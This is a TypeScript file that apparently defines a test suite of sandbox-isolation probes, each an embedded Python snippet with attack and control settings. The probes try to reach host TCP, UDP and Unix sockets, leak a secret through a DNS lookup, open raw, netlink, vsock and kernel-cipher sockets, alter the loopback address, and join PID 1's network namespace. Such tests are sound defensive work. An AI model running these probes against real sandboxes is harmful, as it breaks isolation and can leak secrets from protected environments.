import { type Attempt, inside, nowhere, numbers, onHost } from './attempt.ts';

const connect = `
s = socket.socket(p['family'], socket.SOCK_STREAM)
s.settimeout(5)
s.connect((p['host'], p['port']) if 'host' in p else p['path'].replace('@', '\\0', 1))
return s.recv(100)`;

const family = `return socket.socket(p['family'], p['type'], p.get('protocol', 0)) and True`;

const [unix, inet, inet6, netlink, packet, alg, vsock] = [1, 2, 10, 16, 17, 38, 40];
const [stream, datagram, raw] = [1, 2, 3];

export const networkAttempts: readonly Attempt[] = [
  {
    name: 'connect to the host by TCP',
    body: connect,
    ...onHost(({ tcp }) => ({ family: inet, host: '127.0.0.1', port: tcp })),
  },
  {
    name: 'connect to the host by TCP over IPv6',
    body: connect,
    ...onHost(({ tcp6 }) => ({ family: inet6, host: '::1', port: tcp6 })),
  },
  {
    name: 'connect to the unspecified address',
    body: connect,
    ...onHost(({ tcp }) => ({ family: inet, host: '0.0.0.0', port: tcp })),
  },
  {
    name: 'send a datagram and wait for its arrival to be heard',
    body: `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('127.0.0.1', p['port']))
s.send(b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + b'\\x06canary\\x04test\\x00\\x00\\x01\\x00\\x01')
time.sleep(0.05)
s.send(b'again')
return True`,
    ...onHost(({ udp }) => ({ port: udp })),
  },
  {
    name: 'ask the name service',
    body: `return socket.gethostbyname(p['name'])`,
    ...inside(
      ({ secret }) => ({ name: `${secret}.example.test` }),
      () => ({ name: 'localhost' }),
    ),
  },
  {
    name: 'connect to an abstract socket',
    body: connect,
    ...onHost(({ abstract }) => ({ family: unix, path: `@${abstract}` })),
  },
  {
    name: 'connect to a socket file outside',
    body: connect,
    ...onHost(({ socket }) => ({ family: unix, path: socket })),
  },
  {
    name: 'speak to the kernel by netlink',
    body: family,
    ...onHost(() => ({ family: netlink, type: raw })),
  },
  {
    name: 'speak to the machine below by vsock',
    body: family,
    ...inside(
      () => ({ family: vsock, type: stream }),
      () => ({ family: inet, type: stream }),
    ),
  },
  {
    name: 'read packets',
    body: family,
    ...inside(
      () => ({ family: packet, type: raw, protocol: 768 }),
      () => ({ family: inet, type: datagram }),
    ),
  },
  {
    name: 'write packets',
    body: family,
    ...inside(
      () => ({ family: inet, type: raw, protocol: 1 }),
      () => ({ family: unix, type: stream }),
    ),
  },
  {
    name: 'use the ciphers of the kernel',
    body: family,
    ...inside(
      () => ({ family: alg, type: 5 }),
      () => ({ family: inet6, type: stream }),
    ),
  },
  {
    name: 'find another network device',
    body: `return [name for _, name in socket.if_nameindex() if name != 'lo'] if p.get('index') else [
    line for line in open('/proc/net/dev').read().split('\\n')[2:] if line and line.split(':')[0].strip() != p['known']]`,
    attack: () => ({ known: 'lo' }),
    control: { on: 'inside', with: () => ({ known: 'none' }) },
  },
  {
    name: 'give the host descriptors through its output',
    body: `
out = socket.socket(fileno=os.dup(1))
out.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack('i', 0))])
return False`,
    ...nowhere('what is sent is not received as a descriptor: the next runs show that the host goes on'),
  },
  {
    name: 'raise the loopback device to another address',
    body: `
import fcntl
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
fcntl.ioctl(s, 0x8916, struct.pack('16sHH4s8s', b'lo', socket.AF_INET, 0, socket.inet_aton('127.0.0.2'), bytes(8)))
return True`,
    ...nowhere('it would change the network of this machine'),
  },
  {
    name: 'enter the network of another process',
    body: `
fd = os.open('/proc/%d/ns/net' % p['pid'], os.O_RDONLY)
call(p['number'], fd, 0)
return True`,
    attack: () => ({ pid: 1, number: numbers(308, 268) }),
    control: { on: 'nowhere', because: 'it needs root' },
  },
];
